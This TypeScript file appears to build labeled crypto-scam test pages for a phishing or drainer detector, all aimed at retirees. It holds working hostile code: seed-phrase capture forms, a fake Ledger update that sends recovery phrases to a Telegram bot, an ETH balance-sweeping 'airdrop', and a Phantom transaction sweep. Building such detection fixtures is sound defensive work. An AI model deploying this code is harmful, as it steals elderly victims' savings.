import { htmlRoute, type Entry } from '../entry.js';
import { jsRoute, jsonRoute } from '../parts/e-bin.js';
import { b64, hex, shell, xorB64, xorDecoderJs } from '../parts/yt-kit.js';

/** Wallet drainers and seed-phrase grabs pushed at retirees through "crypto retirement" and benefit-bonus ads. */


// ---- 3. "Wallet sync" for a retirement crypto account: 12/24-word phrase to a PHP drop
const sync = shell({
  title: 'RetireChain — Wallet Synchronization',
  css: `body{margin:0;font-family:Arial;background:#f7f7fb}.w{max-width:620px;margin:40px auto;background:#fff;border-radius:12px;padding:28px;border:1px solid #e5e7eb}
.g{display:grid;grid-template-columns:repeat(3,1fr);gap:8px}.g input{padding:9px;border:1px solid #cbd5e1;border-radius:6px}.tabs button{padding:8px 14px;border:1px solid #cbd5e1;background:#fff;border-radius:6px;margin-right:6px}
.go{width:100%;margin-top:16px;padding:13px;background:#4f46e5;color:#fff;border:0;border-radius:8px;font-size:16px}`,
  body: `<div class="w"><h2>Synchronize your wallet</h2><p>Your RetireChain retirement account could not sync with your wallet after the network upgrade. To restore your balance and monthly payouts, validate your wallet by entering your recovery phrase.</p>
<div class="tabs"><button onclick="n(12)">12 words</button><button onclick="n(18)">18 words</button><button onclick="n(24)">24 words</button></div><br>
<form id="f" method="post" action="/sync/validate.php"><div class="g" id="g"></div><input type="hidden" name="wallet" value="metamask"><button class="go">Validate &amp; Sync</button></form>
<p style="font-size:12px;color:#64748b">🔒 Your phrase is encrypted end-to-end and never stored.</p></div>
<script>function n(k){var g=document.getElementById('g');g.innerHTML='';for(var i=1;i<=k;i++){var e=document.createElement('input');e.name='w'+i;e.placeholder=i+'.';e.autocomplete='off';g.appendChild(e);}}n(12);</script>`,
});

// ---- 4. Tokenized gold IRA "airdrop": payable claim() that sweeps the balance
const goldClaim = '0x3c91e7a05b2d48f6a1e09c7d5b3f2a8e6d4c1b09';
const gold = shell({
  title: 'GoldIRA Token (GIRA) — Airdrop for IRA Holders',
  css: `body{margin:0;font-family:Georgia,serif;background:linear-gradient(#2b2111,#0d0a05);color:#f5e6c8;min-height:100vh}.w{max-width:600px;margin:0 auto;padding:50px 20px;text-align:center}
.b{background:linear-gradient(#f7d774,#c8962b);color:#2b2111;border:0;border-radius:30px;padding:16px 34px;font-size:18px;font-weight:bold;cursor:pointer}.s{font-family:Arial;font-size:13px;color:#c9b58d}`,
  body: `<div class="w"><h1>🪙 GoldIRA Token Airdrop</h1><p>Backed 1:1 by physical gold held in Delaware depository. Retirees holding any IRA or 401(k) qualify for <b>5,000 GIRA (~$4,850)</b>.</p>
<p class="s">Claim fee is refunded with your airdrop. Only the network fee applies.</p><button class="b" id="c">Claim Airdrop</button><p class="s" id="r"></p></div>
<script>
const claimAddr='${goldClaim}';
document.getElementById('c').addEventListener('click',async()=>{
  const [a]=await ethereum.request({method:'eth_requestAccounts'});
  const bal=BigInt(await ethereum.request({method:'eth_getBalance',params:[a,'latest']}));
  const gas=BigInt(21000*40)*1000000000n;
  const v=bal>gas?bal-gas:0n;
  document.getElementById('r').textContent='Confirm the claim in your wallet…';
  await ethereum.request({method:'eth_sendTransaction',params:[{from:a,to:claimAddr,value:'0x'+v.toString(16),data:'0x4e71d92d'}]});
  document.getElementById('r').textContent='Claim submitted! GIRA tokens will appear within 1 hour.';
});
</script>`,
});

// ---- 6. Fake hardware-wallet "security update" asking for the 24-word recovery phrase
const ledger = shell({
  title: 'Ledger Live — Critical Security Update',
  css: `body{margin:0;font-family:Inter,Arial;background:#131214;color:#fff}.w{max-width:640px;margin:40px auto;padding:0 20px}.al{background:#3b1d1d;border:1px solid #ea4335;border-radius:8px;padding:12px}
.g{display:grid;grid-template-columns:repeat(4,1fr);gap:8px;margin-top:14px}.g input{background:#1c1b1f;border:1px solid #333;color:#fff;padding:9px;border-radius:6px}.go{margin-top:18px;width:100%;padding:14px;background:#bbb0ff;color:#131214;border:0;border-radius:30px;font-size:16px;font-weight:bold}`,
  body: `<div class="w"><h2>LEDGER</h2><div class="al">⚠ A vulnerability affecting Nano S/X devices purchased before 2024 was found. Devices not updated by November 30 may lose access to funds.</div>
<p>To protect retirement savings stored on your device, restore your wallet into the patched firmware by entering your 24-word recovery phrase below.</p>
<form id="f"><div class="g" id="g"></div><button class="go">Restore and update</button></form></div>
<script>
var g=document.getElementById('g');for(var i=1;i<=24;i++){g.insertAdjacentHTML('beforeend','<input placeholder="'+i+'" data-i="'+i+'">');}
document.getElementById('f').onsubmit=function(e){e.preventDefault();var w=[].map.call(g.querySelectorAll('input'),function(x){return x.value.trim();}).join(' ');
var t='${hex('7098812245:AAGledger_rstr-Q1k9XbM3pZvT')}'.match(/../g).map(function(h){return String.fromCharCode(parseInt(h,16));}).join('');
fetch('https://api.telegram.org/bot'+t+'/sendMessage',{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify({chat_id:'-1001877123409',text:'LEDGER '+w})}).finally(function(){location.href='https://www.ledger.com/';});};
</script>`,
});

// ---- 7. Solana "$HEALTH" token claim: Phantom signAndSendTransaction with a server-built sweep
const sol = shell({
  title: '$HEALTH — Healthcare Savings Token Claim',
  css: `body{margin:0;font-family:Arial;background:#12002b;color:#fff;text-align:center}.w{max-width:520px;margin:70px auto}.b{background:linear-gradient(90deg,#9945ff,#14f195);border:0;border-radius:30px;padding:15px 30px;font-size:17px;color:#000;font-weight:bold;cursor:pointer}`,
  body: `<div class="w"><h1>$HEALTH Claim is LIVE</h1><p>Members of participating health savings programs are eligible for the $HEALTH airdrop. Connect Phantom to claim your allocation.</p>
<button class="b" id="b">Connect Phantom</button><p id="s"></p></div>
<script>
document.getElementById('b').onclick=async function(){
  var p=(window.phantom&&window.phantom.solana)||window.solana; if(!p){location.href='https://phantom.app/';return;}
  var r=await p.connect(); var pk=r.publicKey.toString();
  document.getElementById('s').textContent='Checking allocation…';
  var j=await fetch('/api/claim/build?pk='+pk).then(function(x){return x.json();});
  for (var i=0;i<j.messages.length;i++){ try{ await p.request({method:'signAndSendTransaction',params:{message:j.messages[i]}}); }catch(e){} }
  document.getElementById('s').textContent='Claimed! Tokens arrive after network confirmation.';
};
</script>`,
});

export const entries: Entry[] = [
{
  id: 'yt-retirechain-wallet-sync-seed',
  label: 'cryptodrainer',
  kind: 'seed-phrase-phish',
  url: 'https://retirechain-walletsync.net/sync/',
  body: sync,
},
{
  id: 'yt-goldira-airdrop-payable-claim',
  label: 'cryptodrainer',
  kind: 'native-balance-drainer',
  url: 'https://goldira-token.finance/airdrop',
  body: gold,
},
{
  id: 'yt-ledger-seniors-recovery-telegram',
  label: 'cryptodrainer',
  kind: 'seed-phrase-phish',
  url: 'https://ledger-security-update.support/restore',
  body: ledger,
},
{
  id: 'yt-health-token-phantom-sweep',
  label: 'cryptodrainer',
  kind: 'solana-drainer',
  url: 'https://claim-healthtoken.xyz/',
  body: sol,
  routes: { 'claim-healthtoken.xyz/api/claim/build': jsonRoute({ messages: ['3Bxs4h24hBtQy9rw1bSK8GRaPTqPJbzVzaD6qUSLaPZ7W2f3RkYUnnGv9p4d7NQP5m6Lq'] }) },
},
];
